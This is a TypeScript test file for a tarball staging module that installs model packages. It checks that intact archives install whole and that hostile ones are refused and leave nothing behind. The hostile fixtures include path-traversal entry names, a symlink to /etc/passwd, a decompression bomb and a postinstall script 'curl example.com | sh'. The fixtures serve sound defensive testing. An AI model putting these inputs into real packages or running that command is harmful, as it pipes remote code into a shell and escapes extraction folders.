import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { copyPackage, type PackageFolder } from '../../../test/support/package-factory.js';
import {
  archiveOf,
  PACKAGE_JSON,
  soundEntries,
  tarballOf,
  type TarEntry,
} from '../../../test/support/tarball-factory.js';
import { TARBALL_LIMITS } from '../package/tarball-reader.js';
import { stageTarball, type StageOptions } from './staging.js';
import { makeStagingFolder, STAGING, sweepStaging } from './staging-folder.js';

const MIB = 1_048_576;
const REF = { name: 'car-evaluation', version: '2.0.0' };

let source: PackageFolder;
let models: string;
beforeEach(async () => {
  source = await copyPackage();
  models = await mkdtemp(join(tmpdir(), 'staging-'));
});
afterEach(async () => {
  await source.remove();
  await rm(models, { recursive: true, force: true });
});

const stage = (tarball: Uint8Array, options?: StageOptions) =>
  stageTarball(models, Readable.from([tarball], { objectMode: false }), options);
const installed = () => readdir(models, { recursive: true }).then((names) => names.filter((name) => name !== STAGING));

const packageJson = (changes: Record<string, unknown>): TarEntry => ({
  name: 'package/package.json',
  content: JSON.stringify({ ...PACKAGE_JSON, ...changes }),
});
/** A sound tarball with more entries at its end. */
const withMore = async (...more: TarEntry[]) => tarballOf([...(await soundEntries(source.path)), ...more]);
/** A sound tarball with another `package.json`. */
const withPackageJson = async (entry: TarEntry) => tarballOf([entry, ...(await soundEntries(source.path)).slice(1)]);

describe('a sound tarball', () => {
  it('is staged without showing, then appears whole, byte for byte', async () => {
    const staged = await stage(await withMore());
    expect(staged.ref).toEqual(REF);
    expect(staged.contents.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(await readdir(models)).toEqual([STAGING]);

    expect(await staged.install()).toEqual(REF);
    const target = join(models, 'car-evaluation/2.0.0');
    for (const name of await readdir(source.path)) {
      expect(await readFile(join(target, name), 'hex')).toBe(await readFile(source.file(name), 'hex'));
    }
    expect(await readdir(target)).toHaveLength(5);
    expect(await readdir(join(models, STAGING))).toEqual([]);
  });

  it('with folders as entries, as tar itself makes it, is taken too', async () => {
    const root = await mkdtemp(join(tmpdir(), 'tar-'));
    await mkdir(join(root, 'package'));
    await writeFile(join(root, 'package/package.json'), JSON.stringify(PACKAGE_JSON));
    execFileSync('cp', ['-r', source.path, join(root, 'package/model')]);
    const tarball = execFileSync('tar', ['-czf', '-', '-C', root, 'package'], { maxBuffer: 8 * MIB });
    await rm(root, { recursive: true });
    expect((await stage(tarball)).ref).toEqual(REF);
  });

  it('leaves nothing when it is discarded', async () => {
    const staged = await stage(await withMore());
    await staged.discard();
    expect(await installed()).toEqual([]);
  });

  it('of a version that is there already changes nothing', async () => {
    await (await stage(await withMore())).install();
    const before = await readdir(join(models, 'car-evaluation/2.0.0'));
    expect(await (await stage(await withMore())).install()).toEqual(REF);
    expect(await readdir(join(models, 'car-evaluation/2.0.0'))).toEqual(before);
    expect(await readdir(join(models, STAGING))).toEqual([]);
  });

  it('of another package with a version that is there is refused: versions never change', async () => {
    await (await stage(await withMore())).install();
    await source.forge('README.md', '# Another card\n');
    const staged = await stage(await withMore());
    await expect(staged.install()).rejects.toMatchObject({
      code: 'version-exists',
      message: expect.stringMatching(/car-evaluation 2\.0\.0/),
    });
    expect(await readdir(join(models, STAGING))).toEqual([]);
    expect(await readFile(join(models, 'car-evaluation/2.0.0/README.md'), 'utf8')).not.toContain('Another');
  });

  it('replaces a damaged copy of itself', async () => {
    await (await stage(await withMore())).install();
    const weights = join(models, 'car-evaluation/2.0.0/weights.bin');
    await writeFile(weights, 'damage');
    await (await stage(await withMore())).install();
    expect(await readFile(weights, 'hex')).toBe(await readFile(source.file('weights.bin'), 'hex'));
    expect(await readdir(join(models, STAGING))).toEqual([]);
  });

  it('can be installed by two at once', async () => {
    const both = await Promise.all([stage(await withMore()), stage(await withMore())]);
    expect(await Promise.all(both.map((staged) => staged.install()))).toEqual([REF, REF]);
    expect(await readdir(join(models, STAGING))).toEqual([]);
  });
});

interface Hostile {
  readonly name: string;
  readonly fault: string;
  readonly says: RegExp;
  readonly options?: StageOptions;
  make(): Promise<Uint8Array>;
}

const link = (type: 'link' | 'symlink', linkname: string): Promise<Buffer> =>
  withMore({ name: 'package/model/extra.bin', type, linkname });

const HOSTILE: readonly Hostile[] = [
  {
    name: 'bytes that are no gzip',
    fault: 'tarball-corrupt',
    says: /damaged, cut short or no gzip/,
    make: async () => archiveOf(await soundEntries(source.path)),
  },
  {
    name: 'gzip that is no tar',
    fault: 'tarball-corrupt',
    says: /tar archive/,
    make: () => Promise.resolve(gzipSync(Buffer.alloc(4_096, 'no tar'))),
  },
  { name: 'nothing', fault: 'tarball-corrupt', says: /cut short/, make: () => Promise.resolve(Buffer.alloc(0)) },
  {
    name: 'gzip that is cut short',
    fault: 'tarball-corrupt',
    says: /cut short/,
    make: async () => (await withMore()).subarray(0, -2_000),
  },
  {
    name: 'tar that is cut short',
    fault: 'tarball-corrupt',
    says: /cut short/,
    make: async () => gzipSync((await archiveOf(await soundEntries(source.path))).subarray(0, 9_000)),
  },
  {
    name: 'a flipped byte',
    fault: 'tarball-corrupt',
    says: /damaged/,
    async make() {
      const tarball = await withMore();
      tarball[3_000]! ^= 0xff;
      return tarball;
    },
  },
  {
    name: 'a path upwards',
    fault: 'path-not-confined',
    says: /"package\/model\/\.\.\/\.\.\/\.\.\/escaped"/,
    make: () => withMore({ name: 'package/model/../../../escaped', content: 'x' }),
  },
  {
    name: 'an absolute path',
    fault: 'path-absolute',
    says: /"\/tmp\/escaped"/,
    make: () => withMore({ name: '/tmp/escaped', content: 'x' }),
  },
  {
    name: 'a path with backslashes',
    fault: 'path-not-confined',
    says: /escaped/,
    make: () => withMore({ name: 'package/model/..\\..\\escaped', content: 'x' }),
  },
  {
    name: 'a folder upwards',
    fault: 'path-not-confined',
    says: /\.\./,
    make: () => withMore({ name: 'package/../escaped', type: 'directory' }),
  },
  {
    name: 'a symbolic link',
    fault: 'tarball-link',
    says: /extra\.bin.*links/,
    make: () => link('symlink', '/etc/passwd'),
  },
  {
    name: 'a hard link',
    fault: 'tarball-link',
    says: /extra\.bin.*links/,
    make: () => link('link', 'package/model/weights.bin'),
  },
  ...(['character-device', 'block-device', 'fifo'] as const).map((type) => ({
    name: `a ${type}`,
    fault: 'tarball-device',
    says: /extra\.bin.*neither a file nor a folder/,
    make: () => withMore({ name: 'package/model/extra.bin', type }),
  })),
  {
    name: 'a file twice',
    fault: 'tarball-duplicate',
    says: /model\/weights\.bin.*twice/,
    make: () => withMore({ name: 'package/model/weights.bin', content: 'other' }),
  },
  {
    name: 'a file twice, in other letters',
    fault: 'tarball-duplicate',
    says: /WEIGHTS\.bin/,
    make: () => withMore({ name: 'package/model/WEIGHTS.bin', content: 'other' }),
  },
  {
    name: 'a file below a file',
    fault: 'tarball-duplicate',
    says: /weights\.bin\/part/,
    make: () => withMore({ name: 'package/model/weights.bin/part', content: 'other' }),
  },
  {
    name: 'a bomb',
    fault: 'tarball-bomb',
    says: /more than 200 times its size/,
    make: () => withMore({ name: 'package/model/zeros.bin', content: Buffer.alloc(32 * MIB) }),
  },
  {
    name: 'more unpacked bytes than allowed',
    fault: 'tarball-too-large',
    says: /unpacks to more than 20000 bytes/,
    options: { limits: { ...TARBALL_LIMITS, unpackedBytes: 20_000 } },
    make: () => withMore(),
  },
  {
    name: 'more packed bytes than allowed',
    fault: 'tarball-too-large',
    says: /has more than 5000 bytes/,
    options: { limits: { ...TARBALL_LIMITS, packedBytes: 5_000 } },
    make: () => withMore(),
  },
  {
    name: 'too many files',
    fault: 'tarball-too-many-files',
    says: /more than 10 files/,
    options: { limits: { ...TARBALL_LIMITS, files: 10 } },
    make: () =>
      withMore(...Array.from({ length: 9 }, (_, index) => ({ name: `package/model/${index}`, content: 'x' }))),
  },
  {
    name: 'no package.json',
    fault: 'tarball-layout',
    says: /no package\/package\.json/,
    make: async () => tarballOf((await soundEntries(source.path)).slice(1)),
  },
  {
    name: 'no model folder',
    fault: 'tarball-layout',
    says: /no package\/model\//,
    make: async () => tarballOf((await soundEntries(source.path)).slice(0, 1)),
  },
  {
    name: 'a file beside the model folder',
    fault: 'tarball-layout',
    says: /"package\/index\.js" is neither/,
    make: () => withMore({ name: 'package/index.js', content: 'process.exit()' }),
  },
  {
    name: 'a file beside the package folder',
    fault: 'tarball-layout',
    says: /"other\/file" is neither/,
    make: () => withMore({ name: 'other/file', content: 'x' }),
  },
  {
    name: 'a package.json that is no JSON',
    fault: 'tarball-layout',
    says: /package\.json: is not valid JSON/,
    make: () => withPackageJson({ name: 'package/package.json', content: '{' }),
  },
  {
    name: 'a package.json of 100 KB',
    fault: 'tarball-layout',
    says: /more than 65536 bytes/,
    make: () => withPackageJson(packageJson({ readme: 'x'.repeat(100_000) })),
  },
  {
    name: 'a package.json of something else',
    fault: 'tarball-layout',
    says: /package\.json: tensornest/,
    make: () => withPackageJson(packageJson({ tensornest: undefined })),
  },
  {
    name: 'a package.json with install scripts',
    fault: 'tarball-layout',
    says: /package\.json: scripts: must not be there/,
    make: () => withPackageJson(packageJson({ scripts: { postinstall: 'curl example.com | sh' } })),
  },
  {
    name: 'a package.json with dependencies',
    fault: 'tarball-layout',
    says: /package\.json: dependencies: must not be there/,
    make: () => withPackageJson(packageJson({ dependencies: { left: '^1' } })),
  },
  {
    name: 'a package.json of another version than its manifest',
    fault: 'manifest-invalid',
    says: /is for car-evaluation 2\.0\.0/,
    make: () => withPackageJson(packageJson({ version: '3.0.0' })),
  },
  {
    name: 'another version than expected',
    fault: 'tarball-layout',
    says: /holds car-evaluation 2\.0\.0, but car-evaluation 3\.0\.0 was expected/,
    options: { expected: { name: 'car-evaluation', version: '3.0.0' } },
    make: () => withMore(),
  },
  {
    name: 'a file that the manifest does not list',
    fault: 'file-unlisted',
    says: /extra\.bin/,
    make: () => withMore({ name: 'package/model/extra.bin', content: 'x' }),
  },
  {
    name: 'weights that the manifest does not vouch for',
    fault: 'digest-mismatch',
    says: /weights\.bin/,
    async make() {
      await source.write('weights.bin', Buffer.alloc(14_480));
      return withMore();
    },
  },
  {
    name: 'no manifest',
    fault: 'manifest-missing',
    says: /manifest\.json/,
    async make() {
      await rm(source.file('manifest.json'));
      return withMore();
    },
  },
];

describe('a tarball with', () => {
  it.each(HOSTILE)('$name is refused by name and leaves nothing behind', async ({ make, fault, says, options }) => {
    await expect(stage(await make(), options)).rejects.toMatchObject({
      code: fault,
      message: expect.stringMatching(says),
    });
    expect(await installed()).toEqual([]);
  });
});

describe('staging', () => {
  it('gives the error of a source that breaks off, and leaves nothing behind', async () => {
    const tarball = await withMore();
    const broken = new Readable({
      read() {
        this.push(tarball.subarray(0, 4_000));
        this.destroy(new Error('the caller hung up'));
      },
    });
    await expect(stageTarball(models, broken)).rejects.toThrow('the caller hung up');
    expect(await installed()).toEqual([]);
  });

  it('leaves a source open that it refuses, so that a request can still be answered', async () => {
    const tarball = await withMore();
    const endless = new Readable({ read: () => endless.push(tarball) });
    const options = { limits: { ...TARBALL_LIMITS, packedBytes: 5_000 } };
    await expect(stageTarball(models, endless, options)).rejects.toMatchObject({ code: 'tarball-too-large' });
    expect(endless.destroyed).toBe(false);
    expect(await installed()).toEqual([]);
    endless.destroy();
  });

  it('says that the models folder cannot be written, and never where it is', async () => {
    const file = join(models, 'file');
    await writeFile(file, '');
    const attempt = stageTarball(file, Readable.from([await withMore()]));
    await expect(attempt).rejects.toMatchObject({
      code: 'models-dir-unwritable',
      message: 'MODELS_DIR cannot be written: it is no folder.',
    });
  });

  it.skipIf(process.getuid?.() === 0)('says that it has no right to write there', async () => {
    await chmod(models, 0o555);
    await expect(stage(await withMore())).rejects.toMatchObject({
      code: 'models-dir-unwritable',
      message: expect.stringMatching(/no right/),
    });
    await chmod(models, 0o755);
  });
});

describe('sweeping', () => {
  const names = () => readdir(join(models, STAGING));
  const renamed = async (folder: string, change: (name: string) => string) => {
    const name = folder.split('/').at(-1)!;
    await mkdir(join(models, STAGING, change(name)));
    await rm(folder, { recursive: true });
  };

  it('keeps what this process stages', async () => {
    await makeStagingFolder(models);
    await sweepStaging(models);
    expect(await names()).toHaveLength(1);
  });

  it('keeps what another living process stages, and removes it when that one is dead', async () => {
    const other = spawn('sleep', ['60']);
    await renamed(await makeStagingFolder(models), (name) => name.replace(`~${process.pid}~`, `~${other.pid}~`));
    await sweepStaging(models);
    expect(await names()).toHaveLength(1);
    other.kill('SIGKILL');
    await once(other, 'exit');
    await sweepStaging(models);
    expect(await names()).toEqual([]);
  });

  it('removes what a process of the same number left, as in a container that was started again', async () => {
    await renamed(await makeStagingFolder(models), (name) =>
      name.replace(/~[0-9a-f-]{36}~/, '~00000000-0000-4000-8000-000000000000~'),
    );
    await sweepStaging(models);
    expect(await names()).toEqual([]);
  });

  it('keeps what another host stages, for a day', async () => {
    await renamed(await makeStagingFolder(models), (name) => name.replace(/^[^~]*/, 'another-host'));
    await sweepStaging(models);
    const [name] = await names();
    expect(name).toMatch(/^another-host~/);
    const longAgo = Date.now() / 1_000 - 25 * 3_600;
    await utimes(join(models, STAGING, name!), longAgo, longAgo);
    await sweepStaging(models);
    expect(await names()).toEqual([]);
  });

  it('does without a models folder', async () => {
    await expect(sweepStaging(join(models, 'none'))).resolves.toBeUndefined();
  });
});
